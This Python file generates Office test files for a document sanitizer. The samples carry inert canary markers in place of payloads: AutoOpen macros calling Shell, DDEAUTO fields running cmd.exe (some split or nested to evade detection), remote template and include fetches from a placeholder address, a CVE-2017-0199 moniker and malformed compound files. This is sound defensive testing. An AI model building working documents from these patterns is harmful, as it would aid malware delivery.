"""Old Office files (file-rules 2.3): small doc, xls and ppt files that hold what must be found, and compound files that lie. None of them may
go on; the canaries in them would show if a piece did."""
import struct

from _cfb import Cfb, FREE, clsid

FIELD, SHOWN, CLOSE = "\x13", "\x14", "\x15"


def word(pieces, flags=0, strings=None, table_head=b"", table="1Table"):
    """A Word 97 file. pieces: (text, is UTF-16); the text of all of them one behind another."""
    body, places, at = b"", [], 1024
    for text, wide in pieces:
        octets = text.encode("utf-16-le") if wide else text.encode("cp1252", "replace")
        places.append((len(text), at if wide else at * 2 | 0x40000000))
        body += octets
        at += len(octets)
    cps, total = [0], 0
    for length, _ in places:
        total += length
        cps.append(total)
    plc = b"".join(struct.pack("<I", cp) for cp in cps) + b"".join(struct.pack("<HIH", 0, place, 0) for _, place in places)
    clx = b"\x02" + struct.pack("<I", len(plc)) + plc
    assoc = b""
    if strings is not None:
        assoc = struct.pack("<HHH", 0xFFFF, len(strings), 0) + b"".join(struct.pack("<H", len(s)) + s.encode("utf-16-le") for s in strings)
    table_stream = table_head + clx + assoc
    pairs = [(0, 0)] * 93
    pairs[33] = (len(table_head), len(clx))
    pairs[32] = (len(table_head) + len(clx), len(assoc)) if assoc else (0, 0)
    fib = struct.pack("<HHHHHHHIBBHHII", 0xA5EC, 0xC1, 0, 0x411, 0, flags | (0x0200 if table == "1Table" else 0), 0xBF, 0, 0, 0, 0, 0, 1024, at)
    fib = fib.ljust(32, b"\0") + struct.pack("<H", 14) + bytes(28) + struct.pack("<H", 22) + bytes(12) + struct.pack("<I", total) + bytes(72)
    fib += struct.pack("<H", 93) + b"".join(struct.pack("<II", *pair) for pair in pairs)
    cfb = Cfb(class_id=clsid("{00020906-0000-0000-C000-000000000046}"))
    cfb.stream("WordDocument", fib.ljust(1024, b"\0") + body)
    cfb.stream(table, table_stream)
    cfb.stream("\x01CompObj", b"\x01\0\xfe\xff" + bytes(24) + b"Microsoft Word")
    return cfb


def record(kind, body=b""):
    return struct.pack("<HH", kind, len(body)) + body


def sheet(name="Sheet1", kind=0, hidden=0):
    return record(0x85, struct.pack("<IBBBB", 0, hidden, kind, len(name), 0) + name.encode())


def book(*records, name="Workbook"):
    data = record(0x809, struct.pack("<HHHHII", 0x600, 5, 0x0DBB, 0x07CC, 0, 6)) + b"".join(records) + record(0x0A)
    data += record(0x809, struct.pack("<HHHHII", 0x600, 0x10, 0x0DBB, 0x07CC, 0, 6)) + record(0x204, struct.pack("<HHHH", 0, 0, 0, 2) + b"\0ok") + record(0x0A)
    cfb = Cfb(class_id=clsid("{00020820-0000-0000-C000-000000000046}"))
    return cfb.stream(name, data)


def atom(kind, body=b"", instance=0):
    return struct.pack("<HHI", instance << 4, kind, len(body)) + body


def container(kind, *inner):
    body = b"".join(inner)
    return struct.pack("<HHI", 0xF, kind, len(body)) + body


def slides(*records, token=0xE391C05F):
    cfb = Cfb(class_id=clsid("{64818D10-4F9B-11CF-86EA-00AA00B929E8}"))
    cfb.stream("PowerPoint Document", container(0x03E8, atom(0x03E9, bytes(40)), *records))
    return cfb.stream("Current User", atom(0x0FF6, struct.pack("<III", 20, token, 0) + bytes(12)))


def macros(cfb, at, canary):
    cfb.stream(at + "/VBA/dir", b"\x01\x00\x00" + canary)
    cfb.stream(at + "/VBA/Module1", b"Sub AutoOpen()\r\nShell \"" + canary + b"\"\r\nEnd Sub\r\n")
    cfb.stream(at + "/VBA/_VBA_PROJECT", b"\xCC\x61" + bytes(6))
    return cfb.stream(at + "/PROJECT", b"ID=\"{0}\"\r\nModule=Module1\r\n")


def field(text, shown="1"):
    return FIELD + text + SHOWN + shown + CLOSE


def big(cfb, canary):
    """Streams that are large enough for chains of their own."""
    return cfb.stream("Data", canary + bytes(6000))


def cases():
    """(case, extension, octets, what it is, what must happen, row)"""
    withheld = "Withheld; the notes say what was found."
    row = "2.3 OLE2 binary"

    def c(name):
        return ("TZCANARY-ole-" + name).encode()

    def s(name):
        return "TZCANARY-ole-" + name

    yield "plain-letter", "doc", word([("明日の会議の資料です。\r", True), ("Regards\r", False)]).write(), "A Word file with text alone.", "Withheld without findings: it is converted later.", row
    yield "plain-table", "xls", book(sheet("Tokyo"), sheet("Osaka")).write(), "A workbook with two sheets.", "Withheld without findings.", row
    yield "plain-slides", "ppt", slides(container(0x03EE, atom(0x03EF, bytes(24)))).write(), "One slide.", "Withheld without findings.", row
    yield "macro", "doc", macros(word([("hello\r", False)]), "Macros", c("doc-macro")).write(), "A VBA project in a Word file.", withheld + " ole.macro.", row
    yield "dde-field-in-pieces", "doc", word([(FIELD + "DD", False), ("EAUTO c:\\\\cmd.exe \"/k " + s("dde") + "\"" + SHOWN + "x" + CLOSE, True)]).write(), \
        "DDEAUTO cut in the middle: one half in octets, one in UTF-16.", withheld + " ole.dde.", row + ", field codes"
    yield "dde-field-nested", "doc", word([(FIELD + field("QUOTE 68 68 69", "DDE") + " cmd " + s("dde-nested") + SHOWN + CLOSE, False)]).write(), \
        "The word DDE is what an inner field shows.", withheld + " ole.dde.", row + ", field codes"
    yield "include-fields", "doc", word([(field('INCLUDEPICTURE "http://192.0.2.1/' + s("incpic") + '"') + field('INCLUDETEXT "\\\\\\\\192.0.2.1\\\\' + s("inctext") + '"') +
                                          field('LINK Excel.Sheet.8 "' + s("link") + '"') + field('HYPERLINK "http://192.0.2.1/' + s("hyper") + '"'), False)]).write(), \
        "Fields that fetch a picture, a text, a linked object; a hyperlink.", withheld + " ole.field three times, ole.link.", row + ", field codes"
    yield "field-never-closed", "doc", word([(FIELD + "DDEAUTO " + s("open-field"), False)]).write(), "A field without an end.", withheld + " ole.dde.", row
    yield "template-on-server", "doc", word([("x\r", False)], strings=["", "\\\\192.0.2.1\\share\\" + s("template") + ".dot"]).write(), \
        "The attached template lies on a server.", withheld + " ole.external_template.", row + ", SttbfAssoc template"
    yield "locked-rc4", "doc", word([("\x91\x92" + s("rc4"), False)], flags=0x0100, table_head=struct.pack("<HH", 1, 1) + bytes(48)).write(), \
        "A Word file under RC4.", "Withheld as encrypted; the note names RC4.", row + ", encryption"
    yield "locked-cryptoapi", "doc", word([("\x91", False)], flags=0x0100, table_head=struct.pack("<HH", 4, 2) + c("capi"), table="0Table").write(), \
        "A Word file under RC4 of CryptoAPI.", "Withheld as encrypted.", row + ", encryption"
    yield "locked-xor", "doc", word([("\x91" + s("xor"), False)], flags=0x8100).write(), "A Word file under XOR obfuscation.", "Withheld as encrypted.", row
    package = word([("x\r", False)]).stream("ObjectPool/_1234567890/\x01Ole10Native", struct.pack("<I", 40) + b"\x02\0run.exe\0C:\\run.exe\0" + c("package"))
    package.stream("ObjectPool/_1234567890/\x03ObjInfo", bytes(6))
    yield "package-in-object-pool", "doc", package.write(), "A program in a packager object.", withheld + " ole.package, ole.embedded_object.", row + ", Ole10Native"
    equation = word([("x\r", False)])
    equation.storage("ObjectPool/_1", clsid("{0002CE02-0000-0000-C000-000000000046}"))
    yield "equation-editor", "doc", equation.stream("ObjectPool/_1/Equation Native", c("equation") + b"\x41" * 300).write(), \
        "An object of the Equation Editor with an overlong font name.", withheld + " ole.equation.", row + ", root CLSID"
    control = word([(field("CONTROL Forms.CommandButton.1"), False)]).stream("ObjectPool/_2/\x03OCXNAME", "Button".encode("utf-16-le")).stream("ObjectPool/_2/\x03OCXDATA", c("ocx"))
    yield "activex-control", "doc", control.write(), "An ActiveX button.", withheld + " ole.control.", row
    shell = word([("x\r", False)])
    shell.storage("ObjectPool/_3", clsid("{EAB22AC3-30C1-11CF-A7EB-0000C05BAE0B}"))
    yield "browser-object", "doc", shell.stream("ObjectPool/_3/contents", c("browser")).write(), "A browser control by its class.", withheld + " ole.control.", row
    moniker = word([("x\r", False)])
    moniker.storage("ObjectPool/_4", clsid("{00000300-0000-0000-C000-000000000046}"))
    yield "linked-object", "doc", moniker.stream("ObjectPool/_4/\x01Ole", "http://192.0.2.1/TZCANARY-ole-moniker".encode("utf-16-le")).write(), \
        "A linked object with a URL moniker (CVE-2017-0199).", withheld + " ole.linked_object.", row
    yield "orphan-macro", "doc", word([("x\r", False)]).orphan("VBA", c("orphan")).orphan("dir", c("orphan2")).write(), \
        "Macros in entries that no storage reaches.", withheld + " ole.orphan_entry.", row + ", orphan directory entries"
    slack = word([("x\r", False)])
    slack.slack = c("slack")
    yield "sector-slack", "doc", slack.write(), "Text in the unused end of every sector.", "Withheld; slack is never read.", row + ", sector slack"

    yield "macro", "xls", macros(book(sheet(), record(0xD3)), "_VBA_PROJECT_CUR", c("xls-macro")).write(), "A VBA project in a workbook.", withheld + " ole.macro.", row
    name = record(0x18, struct.pack("<HBBHHHBBBB", 0x20, 0, 1, 0, 0, 0, 0, 0, 0, 0) + b"\0\x01" + c("auto"))
    yield "xlm-very-hidden", "xls", book(sheet("Macro1", 1, 2), name).write(), "A very hidden sheet of Excel 4 macros and Auto_Open.", withheld + " ole.xlm_macro, ole.auto_macro.", row + ", BOUNDSHEET"
    text_name = record(0x18, struct.pack("<HBBHHHBBBB", 0, 0, 12, 0, 0, 0, 0, 0, 0, 0) + b"\0auto_open99" + c("auto-text"))
    yield "auto-open-by-text", "xls", book(sheet(), text_name).write(), "Auto_Open written out, with digits behind it.", withheld + " ole.auto_macro.", row
    yield "filepass-rc4", "xls", book(record(0x2F, struct.pack("<HHH", 1, 1, 1) + bytes(48)), record(0xFC, c("filepass"))).write(), "A workbook under RC4.", "Withheld as encrypted.", row + ", FILEPASS"
    yield "filepass-cryptoapi", "xls", book(record(0x2F, struct.pack("<HHH", 1, 2, 2) + bytes(60)), record(0xFC, c("filepass2"))).write(), "RC4 of CryptoAPI.", "Withheld as encrypted.", row + ", FILEPASS"
    yield "filepass-xor-old", "xls", book(record(0x2F, b"\x12\x34\x56\x78"), record(0xFC, c("filepass3")), name="Book").write(), "An Excel 95 workbook under XOR.", "Withheld as encrypted.", row + ", FILEPASS"
    dde = record(0x1AE, struct.pack("<HHB", 0, 12, 0) + b"cmd\x03/c " + c("xdde")) + record(0x23, bytes(6) + b"\x01\0A")
    yield "dde-link", "xls", book(sheet(), dde).write(), "A DDE link.", withheld + " ole.dde.", row + ", SUPBOOK/EXTERNNAME"
    more = record(0x1AE, struct.pack("<HHB", 1, 20, 0) + b"\x01\\\\192.0.2.1\\" + c("extbook")) + record(0x1B8, bytes(32) + s("hlink").encode("utf-16-le"))
    more += record(0x876, c("dconn")) + record(0x1AD, c("qsi")) + record(0xDC, c("extq"))
    yield "links-and-queries", "xls", book(sheet(), more).write(), "A link to another workbook, a hyperlink, connections.", withheld + " ole.external_link, ole.link, ole.query.", row + ", HLINK, DCONN, QSI"
    button = record(0x5D, struct.pack("<HHHHHIII", 0x15, 0x12, 7, 1, 0x6011, 0, 0, 0) + struct.pack("<HH", 4, 8) + c("ftmac")[:8] + struct.pack("<HH", 0, 0))
    yield "button-with-macro", "xls", book(sheet(), button).write(), "A button that runs a macro.", withheld + " ole.action.", row + ", OBJ ftMacro"
    yield "embedded-object", "xls", book(sheet()).stream("MBD0001A2B3/\x01Ole10Native", c("mbd")).write(), "An object storage MBD…", withheld + " ole.embedded_object, ole.package.", row + ", MBD storages"

    action = container(0x0FF2, atom(0x0FF3, struct.pack("<IIBBBBB", 0, 1, 2, 0, 0, 0, 0) + bytes(3)), atom(0x0FBA, s("run").encode("utf-16-le")))
    yield "run-program", "ppt", slides(action).write(), "A shape that runs a program.", withheld + " ole.action.", row + ", InteractiveInfo"
    yield "macro", "ppt", slides(container(0x03FF, atom(0x0400, struct.pack("<III", 1, 1, 2))), atom(0x1011, c("vba-storage"))).write(), "A VBA project in a presentation.", withheld + " ole.macro.", row + ", ExVbaInfo"
    objects = container(0x0409, container(0x0FCC, atom(0x0FC3, c("embed"))), container(0x0FCE, atom(0x0FD1, c("olelink"))), container(0x0FEE, atom(0x0FFB, c("control"))),
                        container(0x0FD7, atom(0x0FBA, s("exhyper").encode("utf-16-le"))), container(0x1006, atom(0x1005, c("movie"))))
    yield "objects-and-links", "ppt", slides(objects, atom(0x1011, c("stg"))).write(), "Embedded and linked objects, a control, a link, a film.", withheld, row + ", ExOleObjStg, ExHyperlink, ExControl"
    yield "locked", "ppt", slides(container(0x2F14, c("crypt")), token=0xF3D1C4DF).write(), "A presentation under a password.", "Withheld as encrypted.", row + ", Current User encryption token"

    agile = b'<?xml version="1.0"?><encryption><keyData saltSize="16" blockSize="16" keyBits="256" hashSize="64" cipherAlgorithm="AES" cipherChaining="ChainingModeCBC"/></encryption>'
    yield "package-agile", "docx", Cfb().stream("EncryptionInfo", struct.pack("<HHI", 4, 4, 0x40) + agile).stream("EncryptedPackage", struct.pack("<Q", 9) + c("agile")).write(), \
        "OOXML under agile encryption.", "Withheld as encrypted; the note names AES-256.", row + ", 2.0 encryption"
    standard = struct.pack("<HHII", 3, 2, 0x24, 0x8C) + struct.pack("<IIIIIIII", 0x24, 0, 0x660E, 0x8004, 128, 0x18, 0, 0)
    yield "package-standard", "xlsx", Cfb().stream("EncryptionInfo", standard).stream("EncryptedPackage", struct.pack("<Q", 9) + c("standard")).write(), \
        "OOXML under standard encryption.", "Withheld as encrypted; the note names AES-128.", row + ", 2.0 encryption"
    yield "rights-management", "doc", word([("x\r", False)]).stream("\tDRMContent", c("irm")).stream("\x06DataSpaces/Version", b"x").write(), "Rights management.", "Withheld as encrypted.", row + ", encrypted/IRM"

    def broken(patch, **sizes):
        cfb = big(word([("x\r", False)]), c("broken"))
        cfb.patch = patch
        cfb.sizes.update(sizes)
        return cfb.write()

    def put(out, at, value):
        struct.pack_into("<I", out, at, value)

    lies = "Withheld: no reading of the compound file is believed."
    row = "2.3, mini-stream/FAT loops"
    yield "loop-in-chain", "doc", broken(lambda out, w: put(out, w["fat"] + 4 * (w["start Data"] + 3), w["start Data"])), "A stream's chain leads back to its start.", "Withheld; the stream is noted as damaged or never read.", row
    yield "loop-in-directory", "doc", broken(lambda out, w: put(out, w["fat"] + 4 * w["directory_sector"], w["directory_sector"])), "The directory's chain loops.", lies, row
    yield "loop-in-tree", "doc", broken(lambda out, w: put(out, w["entry WordDocument"] + 68, w["number WordDocument"])), "An entry that is its own neighbour.", lies, row
    yield "loop-through-root", "doc", broken(lambda out, w: put(out, w["entry WordDocument"] + 72, 0)), "An entry whose neighbour is the root.", lies, row
    yield "loop-in-small-streams", "doc", broken(lambda out, w: put(out, w["fat"] + 4 * w["mini_fat_sector"], w["mini_fat_sector"])), "The table of small streams loops.", lies, row
    yield "loop-in-table-list", "doc", broken(lambda out, w: (put(out, 44, 200), put(out, 68, 2), put(out, 72, 1))), "The list of tables leads into content.", lies, row
    yield "size-that-lies", "doc", broken(lambda out, w: None, WordDocument=0x7FFFFFFF), "A stream of 2 GiB in a small file.", "Withheld; the stream is noted as damaged.", row
    yield "chain-leaves-file", "doc", broken(lambda out, w: put(out, w["entry Data"] + 116, 0x00FFFFFF)), "A stream that starts beyond the end.", "Withheld.", row
    yield "two-entries-of-one-name", "doc", word([("x\r", False)]).twin("WORDDOCUMENT", c("twin")).write(), "Two streams whose names differ in case.", "Withheld as ambiguous.", row
    yield "sector-of-nothing", "doc", broken(lambda out, w: put(out, 30, 0x00060001)), "A sector size that does not exist.", lies, row
    four = Cfb(version=4).stream("WordDocument", word([("x\r", False)]).root.children[0].data).stream("1Table", b"\x02\0\0\0\0")
    yield "large-sectors", "doc", macros(four, "Macros", c("v4")).write(), "Version 4 with sectors of 4,096 octets, and macros.", withheld + " ole.macro.", "2.3"
    yield "unknown-compound", "dat", Cfb(class_id=clsid("{12345678-0000-0000-C000-000000000046}")).stream("Contents", c("unknown")).write(), "A compound file of an unknown class.", "Withheld.", "2.3, unknown CLSID => QUAR"


def make(root):
    for name, extension, data, what, must, row in cases():
        folder = root / "ole" / (f"{extension}-{name}" if name in ("macro", "locked") else name)
        folder.mkdir(parents=True, exist_ok=True)
        (folder / f"in.{extension}").write_bytes(data)
        (folder / "why.md").write_text(f"{what}\n{must}\nfile-rules {row}.\n")
